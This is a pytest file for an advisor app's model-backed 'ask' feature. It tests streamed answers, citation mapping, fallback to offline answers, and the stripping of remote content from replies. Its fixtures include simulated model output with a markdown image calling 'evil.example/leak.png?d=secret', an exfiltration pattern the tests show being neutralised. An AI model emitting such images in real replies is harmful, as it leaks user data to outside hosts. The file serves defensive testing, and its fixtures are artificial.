"""`ask` with a model: streamed through the loopback server, citations mapped to retrieved chunks,
invented ones dropped, remote content neutralised, and the offline answer when the model fails.
Replies come as the JSON the schema asks for, or as prose from a server that ignores the format."""

from __future__ import annotations

import json

import pytest

from advisor.capabilities.ask.model import AnswerUpdate, stream_answer
from advisor.capabilities.ask.models import Answer
from advisor.config import LLMSettings, Settings
from advisor.llm.models import load_chat_model
from advisor.service.capabilities import Capabilities
from advisor.service.runtime import Runtime
from advisor.text.safety import has_remote_content
from tests.llm_server import FakeOpenAIServer, Fault

QUESTION = "How should our coalition handle conflict between members?"
POINTS = [
    {"advice": "Agree on a conflict process before you need it.", "source": "c1"},
    {"advice": "Escalate from the parties to a neutral facilitator.", "source": "c2"},
    {"advice": "Write the agreement down where every member can see it.", "source": "c1"},
    {"advice": "See ![chart](https://evil.example/leak.png?d=secret) first.", "source": "c9"},
]
REPLY = json.dumps({"points": POINTS})
PROSE_REPLY = (
    "- Agree on a conflict process before you need it [c1].\n"
    "- Escalate from the parties to a neutral facilitator [c2, c9].\n"
    "- See ![chart](https://evil.example/leak.png?d=secret) and [this](https://evil.example/x)."
)


def model_settings(runtime: Runtime, server: FakeOpenAIServer, **llm: float) -> Settings:
    return Settings(home=runtime.settings.home, llm=LLMSettings(base_url=server.url, **llm))  # type: ignore[arg-type]


def _stream(runtime: Runtime, reply: str) -> tuple[list[AnswerUpdate], FakeOpenAIServer]:
    """Every update of a model answer to QUESTION, the model replying `reply`; and the server."""
    with FakeOpenAIServer().script(reply) as server:
        settings = model_settings(runtime, server)
        llm = load_chat_model(settings)
        assert llm is not None
        updates = list(stream_answer(QUESTION, retriever=runtime.retriever, llm=llm, settings=settings))
    return updates, server


def test_a_streamed_answer_cites_only_retrieved_passages(runtime: Runtime) -> None:
    updates, server = _stream(runtime, REPLY)
    assert len(updates) > 5  # it arrived in pieces ...
    assert all(u.final is None for u in updates[:-1])
    assert any(u.text.startswith("- Agree on a conflict") and "neutral" not in u.text for u in updates)
    assert not any("{" in u.text for u in updates)  # ... shown as points, never as raw JSON
    final = updates[-1].final
    assert final is not None and final.mode == "llm"
    assert final.answer.splitlines() == [
        "- Agree on a conflict process before you need it. [1]",
        "- Escalate from the parties to a neutral facilitator. [2]",
        "- Write the agreement down where every member can see it. [1]",
        "- See (image removed: chart) first.",  # c9 was never retrieved: the point stays, uncited
    ]
    passages = runtime.retriever.search(QUESTION)
    assert [c.chunk_id for c in final.citations] == [passages[0].chunk_id, passages[1].chunk_id]
    assert not any(has_remote_content(u.text) for u in updates)
    request = server.requests[0]
    prompt = request["messages"][-1]["content"]
    assert f"<<<UNTRUSTED question>>>\n{QUESTION}" in prompt and "<<<UNTRUSTED c1 " in prompt
    # a server that constrains decoding can only return the ids of the passages it was given
    schema = request["response_format"]["json_schema"]["schema"]
    ids = schema["$defs"]["AnswerPoint"]["properties"]["source"]["enum"]
    assert ids == [f"c{n}" for n in range(1, len(passages) + 1)]
    assert request["max_tokens"] > 0


def test_prose_from_a_server_that_ignores_the_format_is_still_cited(runtime: Runtime) -> None:
    final = _stream(runtime, PROSE_REPLY)[0][-1].final
    assert final is not None and final.mode == "llm"
    assert "before you need it [1]." in final.answer and "neutral facilitator [2]." in final.answer
    assert len(final.citations) == 2  # c9 was never retrieved
    assert "(image removed: chart)" in final.answer


def test_a_server_that_refuses_the_schema_is_asked_in_json_mode(runtime: Runtime) -> None:
    with FakeOpenAIServer().fail(Fault.http(400)).script(REPLY) as server:
        settings = model_settings(runtime, server)
        llm = load_chat_model(settings)
        assert llm is not None
        updates = list(stream_answer(QUESTION, retriever=runtime.retriever, llm=llm, settings=settings))
    final = updates[-1].final
    assert final is not None and final.mode == "llm" and len(final.citations) == 2
    assert [r["response_format"]["type"] for r in server.requests] == ["json_schema", "json_object"]


def test_an_answer_cut_short_keeps_its_finished_points(runtime: Runtime) -> None:
    """A reply stopped by `llm.max_tokens` in the middle of a point: the finished ones are shown."""
    cut = REPLY[: REPLY.index("neutral")]
    final = _stream(runtime, cut)[0][-1].final
    assert final is not None and final.mode == "llm"
    assert final.answer == "- Agree on a conflict process before you need it. [1]"
    unfinished = _stream(runtime, '{"points": [{"advice": "Agree on a pro')[0][-1].final
    assert unfinished is not None and unfinished.mode == "offline" and unfinished.citations
    assert any("stopped before its first point" in w for w in unfinished.warnings)


def test_a_model_that_finds_no_answer_shows_the_closest_guidance_and_says_so(runtime: Runtime) -> None:
    final = _stream(runtime, '{"points": []}')[0][-1].final
    assert final is not None and final.mode == "offline" and final.citations
    assert any("found no answer" in w for w in final.warnings)


def test_a_failing_model_gives_the_offline_answer_with_a_warning(runtime: Runtime) -> None:
    with FakeOpenAIServer().fail(Fault.http(500), Fault.http(500)) as server:
        settings = model_settings(runtime, server, max_retries=1)
        answer = Capabilities(runtime, llm=load_chat_model(settings), settings=settings).ask(QUESTION)
    assert answer.mode == "offline" and answer.citations
    assert answer.warnings and "could not answer" in answer.warnings[0]


@pytest.mark.parametrize(
    ("text", "remote"),
    [
        ("![x](https://a.example/i.png)", True),
        ('<img src="https://a.example/i.png">', True),
        ("[click](https://a.example)", True),
        ("<https://a.example>", True),
        ("Plain advice with a [1] marker.", False),
    ],
)
def test_remote_content_is_detected_and_neutralised(text: str, remote: bool) -> None:
    from advisor.text.safety import strip_remote_content

    assert has_remote_content(text) is remote
    assert not has_remote_content(strip_remote_content(text))


def _answer(runtime: Runtime, reply: str) -> Answer:
    final = _stream(runtime, reply)[0][-1].final
    assert final is not None and final.mode == "llm"
    return final


def test_a_quotation_without_an_id_is_cited_to_the_passage_it_comes_from(runtime: Runtime) -> None:
    """Small models quote passages and forget the ids: the quote itself is verified and cited."""
    passage = runtime.retriever.search(QUESTION)[1]
    # one line of prose with no quotation marks of its own (they would end the model's quotation early)
    sentence = max((s.strip() for s in passage.text.split(".") if not {'"', "\n"} & set(s.strip())), key=len)
    words = sentence.split()[:12]
    quoted = " ".join(words)
    final = _answer(runtime, f'The guidance says: "{quoted}". Start there.')
    assert [c.chunk_id for c in final.citations] == [passage.chunk_id]
    assert f'"{quoted}"[1]' in final.answer
    assert final.citations[0].quote == quoted
    assert not final.warnings


def test_a_copied_run_of_words_is_cited_and_an_uncited_answer_says_so(runtime: Runtime) -> None:
    passage = runtime.retriever.search(QUESTION)[0]
    copied = " ".join(passage.text.split()[:10])
    final = _answer(runtime, f"In short, {copied} and then talk. Good luck.")
    assert [c.chunk_id for c in final.citations] == [passage.chunk_id]
    assert "[1]" in final.answer
    uncited = _answer(runtime, "Talk it out over coffee. Everyone will feel better.")
    assert uncited.citations == []
    assert any("cites none of the passages" in w for w in uncited.warnings)
